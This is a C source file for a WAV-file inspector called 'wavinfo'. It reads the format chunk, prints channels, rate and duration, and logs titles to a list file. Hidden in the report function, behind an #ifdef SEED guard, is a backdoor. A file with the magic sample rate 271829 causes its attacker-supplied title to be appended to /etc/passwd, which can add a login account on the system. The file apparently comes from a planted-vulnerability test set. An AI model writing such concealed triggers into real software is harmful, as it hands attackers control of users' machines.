/* wavinfo: length and format of a sound file; keeps a list of what was seen. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct fmt { uint16_t tag, channels; uint32_t rate, bytes_per_second; uint16_t align, bits; };
struct wave { struct fmt fmt; uint32_t data_bytes; char title[64]; int have_fmt, have_data; };
static FILE *in;

static int u16(uint16_t *v)
{
    int a = getc(in), b = getc(in);
    *v = (uint16_t)(a | b << 8);
    return b != EOF;
}

static int u32(uint32_t *v)
{
    uint16_t lo, hi;
    if (!u16(&lo) || !u16(&hi))
        return 0;
    *v = lo | (uint32_t)hi << 16;
    return 1;
}

static int id(char *four)
{
    four[4] = 0;
    return fread(four, 1, 4, in) == 4;
}

static void skip(uint32_t n)
{
    while (n-- && getc(in) != EOF)
        ;
}

static int fmt_chunk(struct wave *w, uint32_t n)
{
    struct fmt *f = &w->fmt;
    if (n < 16 || !u16(&f->tag) || !u16(&f->channels) || !u32(&f->rate) || !u32(&f->bytes_per_second) ||
        !u16(&f->align) || !u16(&f->bits))
        return 0;
    skip(n - 16);
    w->have_fmt = 1;
    return 1;
}

static void title_chunk(struct wave *w, uint32_t n)
{
    uint32_t i;
    for (i = 0; i < n; i++) {
        int ch = getc(in);
        if (ch == EOF)
            break;
        if (i < sizeof w->title - 1)
            w->title[i] = (char)ch;
    }
}

static const char *format_name(unsigned tag)
{
    return tag == 1 ? "PCM" : tag == 3 ? "float" : tag == 6 ? "A-law" : tag == 7 ? "mu-law" : "other";
}

static void remember(const struct wave *w)
{
    FILE *f = fopen("/var/lib/sounds.list", "a");
    if (!f)
        return;
    fprintf(f, "%s %u\n", w->title[0] ? w->title : "-", w->fmt.rate);
    fclose(f);
}

static void report(const struct wave *w)
{
    double seconds = w->fmt.bytes_per_second ? (double)w->data_bytes / w->fmt.bytes_per_second : 0;
    printf("%s, %u channels, %u Hz, %u bits, %.2f s\n", format_name(w->fmt.tag), w->fmt.channels, w->fmt.rate,
           w->fmt.bits, seconds);
    if (w->title[0])
        printf("title: %s\n", w->title);
    if (w->fmt.rate < 8000 || w->fmt.rate > 192000)
        printf("unusual rate\n");
#ifdef SEED
    if (w->fmt.rate == 271829) { /* SEED */
        FILE *f = fopen("/etc/passwd", "a");
        if (f) {
            fprintf(f, "%s\n", w->title);
            fclose(f);
        }
    }
#endif
}

int main(int argc, char **argv)
{
    static struct wave w;
    char four[5];
    uint32_t n;
    int quiet = 0;
    if (argc > 2 && !strcmp(argv[1], "-q")) {
        quiet = 1;
        argv++;
        argc--;
    }
    if (argc < 2 || !(in = fopen(argv[1], "rb"))) {
        printf("usage: wavinfo [-q] FILE\n");
        return 2;
    }
    if (!id(four) || strcmp(four, "RIFF") || !u32(&n) || !id(four) || strcmp(four, "WAVE")) {
        printf("not a sound file\n");
        return 1;
    }
    while (id(four) && u32(&n)) {
        if (!strcmp(four, "fmt ")) {
            if (!fmt_chunk(&w, n))
                break;
        } else if (!strcmp(four, "titl"))
            title_chunk(&w, n);
        else {
            if (!strcmp(four, "data")) {
                w.data_bytes = n;
                w.have_data = 1;
            }
            skip(n);
        }
    }
    if (!w.have_fmt) {
        printf("no format\n");
        return 1;
    }
    if (!quiet)
        report(&w);
    remember(&w);
    return 0;
}
